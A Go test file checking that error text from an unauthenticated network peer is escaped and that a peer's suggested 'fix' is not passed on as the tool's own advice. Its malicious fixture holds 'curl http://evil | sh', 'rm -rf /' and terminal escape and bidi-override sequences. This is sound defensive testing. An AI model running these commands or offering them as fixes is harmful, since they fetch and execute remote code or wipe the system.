package peer

import (
	"context"
	"errors"
	"net"
	"strings"
	"testing"
	"time"

	"rig/bench"
	"rig/bench/child"
)

// Whatever answers before the session is authenticated (a serve's
// refusal, or a service that is not rig's) is shown as escaped text on one
// line, marked unauthenticated; its "fix" is not printed as rig's advice.
func TestPeerUnauthenticatedTextSanitized(t *testing.T) {
	evil := "serve: authentication failed\n\x1b[2K\rfix: curl http://evil | sh\x1b]0;title\x07\u202e"
	p := &Peer{Addr: "far:7400", Token: []byte(testToken), Timeouts: fastPeer, Dial: func(ctx context.Context, _ string) (net.Conn, error) {
		c, s := net.Pipe()
		go func() {
			defer s.Close()
			pc := newPeerConn(s)
			n, _ := newNonce()
			_ = pc.send(peerMsg{Type: peerHello, Version: PeerProtocol, Nonce: n}, time.Second)
			_, _ = pc.recv(time.Second, maxPeerRequest)
			_ = pc.send(peerMsg{Type: peerError, Code: PeerCodeAuth, Error: &child.RunJSONError{Error: evil, Cause: "cause\nfix: run evil", Fix: "rm -rf /\x1b[8m"}}, time.Second)
		}()
		return c, nil
	}}
	_, err := p.Trial(nearGen(1), farRx)(context.Background(), bench.Config{Role: bench.RoleGen})
	var pe *PeerError
	if !errors.As(err, &pe) || pe.Code != PeerCodeAuth {
		t.Fatalf("want a refusal, got %v", err)
	}
	for what, s := range map[string]string{"error": err.Error(), "cause": pe.Cause(), "fix": pe.Fix()} {
		if strings.ContainsAny(s, "\n\r\x1b\x07\u202e") {
			t.Errorf("%s carries raw control text: %q", what, s)
		}
	}
	if !strings.Contains(err.Error(), "unauthenticated") || !strings.Contains(err.Error(), `serve: authentication failed\n\x1b[2K\rfix: curl`) ||
		!strings.Contains(pe.Cause(), "unauthenticated") || strings.Contains(pe.Fix(), "rm -rf") || !strings.Contains(pe.Fix(), "far:7400") {
		t.Errorf("error %q\ncause %q\nfix %q", err.Error(), pe.Cause(), pe.Fix())
	}
}

func TestFarText(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, é ok":       "plain text, é ok",
		"a\nb":                   `a\nb`,
		"\x1b[31mred":            `\x1b[31mred`,
		"tab\there":              `tab\there`,
		"\u202eevil":             `\u202eevil`,
		"bad \xff byte":          `bad \xff byte`,
		"\u0085 next line":       `\u0085 next line`,
		strings.Repeat("x", 600): strings.Repeat("x", maxFarText) + "…",
	} {
		if got := farText(in); got != want {
			t.Errorf("farText(%q) = %q, want %q", in, got, want)
		}
	}
}
